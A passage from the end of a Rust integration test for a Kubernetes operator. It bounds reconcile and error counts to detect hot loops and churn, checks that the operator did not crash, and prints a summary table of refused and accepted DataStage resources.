    {
        violations.push(format!("{sharded}: its Indexed Job was refused ({state})"));
    }

    // The bounds. Over the whole run each DataStage may take ten
    // reconciliations for the events of its own life (creation, finalizer,
    // status echoes, its Jobs created) plus one per 3 s requeue, and two
    // per change of a worker's Job or pod or live report of a stager (the
    // one the change wakes, and the one the status that reconciliation
    // writes wakes); errors are for
    // transient API failures only (status and Jobs are server-side applied
    // with force, so there are no conflicts): at most one per ten
    // DataStages. In the quiet window the same without the ten, and no
    // errors. A hot loop (a requeue without delay, or an error on every
    // pass) breaks them.
    let count = accepted.len().max(1) as f64;
    let run_secs = settled.duration_since(counting).as_secs_f64();
    let (reconciles, errors) = (after_settling.0 - before.0, after_settling.1 - before.1);
    let (quiet_reconciles, quiet_errors) = (after_window.0 - after_settling.0, after_window.1 - after_settling.1);
    let run_changes = changes_before as f64;
    let run_reports = reports_before as f64;
    let run_bound = count * (10.0 + run_secs / 3.0) + 2.0 * (run_changes + run_reports);
    let quiet_bound = count * (window.as_secs_f64() / 3.0 + 1.0) + 2.0 * (worker_changes + quiet_reports);
    println!(
        "reconciles: {reconciles} in {run_secs:.0}s with {run_changes} changes of workers' Jobs and pods \
         and {run_reports} live reports (bound {run_bound:.0}), errors {errors}; \
         quiet {window:?}: {quiet_reconciles} with {worker_changes} changes of workers' Jobs and pods \
         and {quiet_reports} live reports (bound {quiet_bound:.0}; {quiet_created} created), errors {quiet_errors}"
    );
    if reconciles > run_bound || quiet_reconciles > quiet_bound {
        violations.push(format!(
            "hot loop: {reconciles} reconciles in {run_secs:.0}s, {quiet_reconciles} in a quiet {window:?} \
             with {worker_changes} changes of workers' Jobs and pods, for {count} DataStages"
        ));
    }
    // The changes that widen the bounds must not be the operator's own
    // churn: in the quiet window no DataStage changes, so its Jobs exist
    // already and pods are started again only by a Job's backoff (10 s
    // first, then 20 s): at most two new pods per worker, and a DataStage
    // here has at most two workers (one per node).
    if quiet_created as f64 > 4.0 * count {
        violations.push(format!(
            "churn: {quiet_created} workers' Jobs and pods created in a quiet {window:?}, for {count} DataStages"
        ));
    }
    if errors > 3.0 + count / 10.0 || quiet_errors > 0.0 {
        let by_object: Vec<String> = failures
            .iter()
            .map(|(name, (n, error))| format!("  {} ×{n}: {}", shorten(name, 80), shorten(error, 300)))
            .collect();
        violations.push(format!(
            "reconcile errors: {errors} during the run, {quiet_errors} in the quiet window; by DataStage:\n{}",
            by_object.join("\n")
        ));
    }

    // The operator is still there, and never panicked.
    let exited = operator.try_wait();
    let log = std::fs::read_to_string(operator.log_path()).unwrap_or_default();
    if exited.is_some() || log.contains("panicked") {
        violations.push(format!("the operator crashed ({exited:?}):\n{}", operator.log_tail(40)));
    }

    // The table: what was refused for which field, and where accepted
    // DataStages ended up.
    let mut table: BTreeMap<String, usize> = BTreeMap::new();
    for (name, _, outcome) in &outcomes {
        let row = match outcome {
            Outcome::Refused(code, message) => {
                format!("refused {code} {}", shorten(field_named(message).unwrap_or("?"), 60))
            }
            Outcome::Accepted => {
                format!("accepted {}", states.get(name).map(|(_, s)| s.as_str()).unwrap_or("gone"))
            }
        };
        *table.entry(row).or_default() += 1;
    }
    for (row, n) in &table {
        println!("{n:5}  {row}");
    }
    println!("total {:.0}s", started.elapsed().as_secs_f64());

    operator.stop(Duration::from_secs(3));
    cluster.stop().await;
    assert!(violations.is_empty(), "{} violations:\n{}", violations.len(), violations.join("\n"));
}
